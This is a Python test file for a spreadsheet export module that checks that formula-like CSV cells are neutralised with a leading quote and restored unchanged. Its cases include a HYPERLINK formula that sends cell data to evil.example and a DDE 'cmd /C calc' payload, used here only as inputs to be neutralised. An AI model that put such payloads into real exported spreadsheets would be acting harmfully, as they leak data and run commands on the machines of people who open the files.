"""Cells we write to spreadsheets never run as formulas, and the importer gets back what was written."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheet import DANGEROUS, csv_bytes, neutralise, restore


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1;"Klick")', '\'=HYPERLINK("http://evil.example/?x="&A1;"Klick")'),
        ("+SUM(1;2)", "'+SUM(1;2)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),
        ("Anna Müller", "Anna Müller"),
        ("'s Gravenhage", "'s Gravenhage"),
        ("0176 12345678", "0176 12345678"),
        ("", ""),
    ],
)
def test_a_cell_that_would_be_a_formula_gets_a_quote_and_comes_back_unchanged(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


@given(st.text())
def test_restore_undoes_neutralise_and_nothing_neutralised_begins_dangerously(cell):
    written = neutralise(cell)
    assert restore(written) == cell
    assert not written.startswith(DANGEROUS)


@given(st.text().filter(lambda cell: not cell.startswith("'")))
def test_restore_leaves_alone_what_neutralise_leaves_alone(cell):
    if not cell.startswith(DANGEROUS):
        assert neutralise(cell) == cell and restore(cell) == cell


def test_every_cell_of_a_csv_is_neutralised_numbers_and_empty_cells_included():
    data = csv_bytes([["Name", "Wert"], ["=1+1", -5], [None, "@x"]])

    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Name", "Wert"], ["'=1+1", "'-5"], ["", "'@x"]]
